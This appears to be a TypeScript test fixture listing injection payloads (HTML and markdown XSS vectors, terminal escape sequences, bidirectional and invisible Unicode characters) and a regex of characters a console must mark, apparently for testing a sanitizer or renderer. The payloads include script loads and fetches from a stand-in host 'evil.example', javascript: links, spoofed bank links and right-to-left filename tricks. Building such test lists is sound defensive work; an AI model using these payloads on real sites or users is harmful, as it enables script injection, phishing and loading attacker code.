/** Injection payloads: markup, terminal escape sequences, invisible and bidirectional characters. */

const CALLS = ["alert(1)", "alert`1`", "top.alert(1)", "import('//evil.example/x.js')", "fetch('//evil.example/')"];
const MARKUP = [
  "<script>%</script>",
  "<img src=x onerror=%>",
  "<img src=//evil.example/x.png>",
  "<svg onload=%>",
  "<svg><script>%</script></svg>",
  "<svg><animate onbegin=% attributeName=x dur=1s>",
  "<iframe src=javascript:%></iframe>",
  "<iframe srcdoc='<script>%</script>'>",
  "<body onload=%>",
  "<a href=javascript:%>click</a>",
  "<details open ontoggle=%>",
  "<math><mtext><style><img src onerror=%></style></mtext></math>",
  "<form action=javascript:%><button>x</button></form>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<object data=javascript:%></object>",
  "<embed src=javascript:%>",
  "<video><source onerror=%></video>",
  "'\"><img src=x onerror=%>",
  "</p></div><script>%</script>",
  "{{constructor.constructor('%')()}}",
  "${%}",
];
const MARKDOWN = [
  "![x](https://evil.example/x.png)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example)",
  "[x](https://evil.example \"onmouseover=alert(1)\")",
  "[https://bank.example](https://evil.example)",
  "<https://evil.example>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "> <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  "- <svg onload=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
];
const TERMINAL = ["\u001b[2J", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\", "\u009b31m", "\r\nfake: line", "a\bb", "\u0000nul", "\u007fdel"];
const TURNS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
const HIDES = ["\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u2028", "\u2029", "\u{e0041}", "\u{e0069}\u{e006d}\u{e0067}"];

export const PAYLOADS: string[] = [
  ...MARKUP.flatMap((markup) => CALLS.map((call) => markup.replace("%", call))),
  ...MARKDOWN,
  ...TERMINAL,
  ...TURNS.flatMap((turn) => [`pay ${turn}nna${turn} 5`, `file${turn}gpj.exe`]),
  ...HIDES.flatMap((hidden) => [`ad${hidden}min`, `${hidden}${hidden}x`, `[pay](https://bank.example/${hidden}evil)`]),
];

/** Characters that the console must never show unmarked. */
export const UNSEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200c\u200e\u200f\u2028-\u202e\u2060\u2066-\u2069\u3164\ufeff]|[\u{e0000}-\u{e0fff}]/u;
